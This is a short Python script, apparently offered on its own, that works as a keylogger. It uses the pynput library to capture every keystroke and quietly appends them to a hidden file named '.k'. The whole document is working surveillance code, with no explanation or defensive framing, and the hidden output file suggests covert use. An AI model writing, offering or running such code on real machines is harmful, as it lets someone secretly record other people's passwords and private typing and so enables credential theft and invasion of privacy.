from pynput.keyboard import Listener
def on_press(key):
    with open(".k", "a") as f:
        f.write(str(key))
with Listener(on_press=on_press) as l:
    l.join()
